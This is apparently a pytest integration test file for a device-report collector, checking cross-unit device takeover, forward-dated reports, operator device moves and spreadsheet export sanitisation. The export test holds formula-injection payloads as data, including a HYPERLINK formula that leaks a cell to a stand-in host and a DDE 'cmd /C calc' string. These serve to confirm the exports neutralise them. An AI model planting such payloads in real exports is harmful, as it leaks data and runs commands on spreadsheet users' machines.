"""What a unit's token must not be able to do to other units' devices, against real collector processes."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
import requests
from openpyxl import load_workbook

from conftest import cli
from support.reports import windows_pc

pytestmark = pytest.mark.integration


def _at(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def _post(url: str, token: str, doc: dict) -> requests.Response:
    return requests.post(url + "/api/v1/reports", json=doc, headers={"Authorization": f"Bearer {token}"}, timeout=30)


def _device(url: str, device_id: str) -> dict:
    answer = requests.get(f"{url}/api/v1/devices/{device_id}", timeout=30)
    assert answer.status_code == 200, answer.text
    return answer.json()["device"]


def _report(unit: str, device: str, at: datetime, hostname: str) -> dict:
    doc = windows_pc(ward=unit, device=device, at=_at(at))
    doc["device"]["hostname"] = hostname
    return doc


def test_a_units_token_cannot_take_over_another_units_device(collector):
    """The attack of the finding: another unit's device id and a date 23 hours ahead."""
    victim, attacker = collector.token("00004"), collector.token("00070")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, victim, _report("00004", "victim-1", now - timedelta(hours=1), "UB-PC01")
                 ).status_code == 201

    forged = _post(collector.url, attacker, _report("00070", "victim-1", now + timedelta(hours=23), "TAKEN"))
    assert forged.status_code == 409, forged.text
    body = forged.json()
    assert body["error"] == "conflict" and "device.id" in body["message"] and "00004" in body["message"]
    assert _device(collector.url, "victim-1")["ward_code"] == "00004"
    assert _device(collector.url, "victim-1")["hostname"] == "UB-PC01"

    # The real device's next report still counts.
    later = _post(collector.url, victim, _report("00004", "victim-1", now, "UB-PC01-NEW"))
    assert later.status_code == 201 and later.json()["status"] == "accepted"
    assert _device(collector.url, "victim-1")["hostname"] == "UB-PC01-NEW"


def test_a_date_far_ahead_does_not_outrank_the_devices_later_reports(collector):
    token = collector.token("00004")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, token, _report("00004", "clocky", now + timedelta(hours=23), "AHEAD")
                 ).status_code == 201
    assert _post(collector.url, token, _report("00004", "clocky", now + timedelta(seconds=5), "LATER")
                 ).status_code == 201
    device = _device(collector.url, "clocky")
    assert device["hostname"] == "LATER"
    # Counted as collected when received, not at the claimed date.
    assert datetime.fromisoformat(device["last_collected_at"]) < now + timedelta(minutes=5)


def test_an_operator_moves_a_device_that_really_moved(collector):
    old_unit, new_unit = collector.token("00004"), collector.token("00070")
    now = datetime.now(timezone.utc)
    assert _post(collector.url, old_unit, _report("00004", "mover", now - timedelta(hours=2), "PC-MOVED")
                 ).status_code == 201
    assert _post(collector.url, new_unit, _report("00070", "mover", now - timedelta(hours=1), "PC-MOVED")
                 ).status_code == 409

    done = cli("collector.cli", "device", "move", "mover", "--to", "00070", "--db", collector.db_url)
    assert done.returncode == 0, done.stderr
    assert _device(collector.url, "mover")["ward_code"] == "00070"
    assert _post(collector.url, new_unit, _report("00070", "mover", now, "PC-MOVED")).status_code == 201
    audit = cli("collector.cli", "audit", "--json", "--db", collector.db_url)
    assert '"device_move"' in audit.stdout and '"from": "00004"' in audit.stdout

    refused = cli("collector.cli", "device", "move", "no-such-device", "--to", "00070", "--db", collector.db_url)
    assert refused.returncode == 1 and "no device with id 'no-such-device'" in refused.stderr
    assert "Traceback" not in refused.stderr


HOSTILE_HOSTNAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
EXPORTS = ["/units/00070/devices", "/units/00070/applications", "/export/units"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_exports_hold_no_cell_a_spreadsheet_would_evaluate(collector):
    token = collector.token("00070")
    doc = _report("00070", "hostile-1", datetime.now(timezone.utc) - timedelta(minutes=5), HOSTILE_HOSTNAME)
    doc["os"]["name"] = "=1+2"
    doc["software"].append({"name": "@SUM(1+1)*cmd|' /C calc'!A0", "version": "-2+3", "publisher": "+x"})
    assert _post(collector.url, token, doc).status_code == 201
    for export in EXPORTS:
        csv_answer = requests.get(collector.url + export + ".csv", timeout=60)
        assert csv_answer.status_code == 200
        cells = [c for row in _csv_cells(csv_answer.content) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], export
        book = load_workbook(io.BytesIO(requests.get(collector.url + export + ".xlsx", timeout=60).content))
        xlsx = [c for row in book.active.iter_rows() for c in row]
        assert not [c.coordinate for c in xlsx if c.data_type == "f"], export
        if export.endswith("devices"):
            assert f"'{HOSTILE_HOSTNAME}" in cells and "'=1+2" in cells  # the text, made inert, not lost
            assert {HOSTILE_HOSTNAME, "=1+2"} <= {c.value for c in xlsx}  # the same text, as strings
            memory = next(c for c in xlsx if c.row == 1 and c.value and "RAM" in str(c.value))
            assert isinstance(book.active.cell(2, memory.column).value, (int, float))  # numbers stay numbers
    units = _csv_cells(requests.get(collector.url + "/export/units.csv", timeout=60).content)
    assert any("Hoàn Kiếm" in c for row in units for c in row)  # Vietnamese comes out unchanged
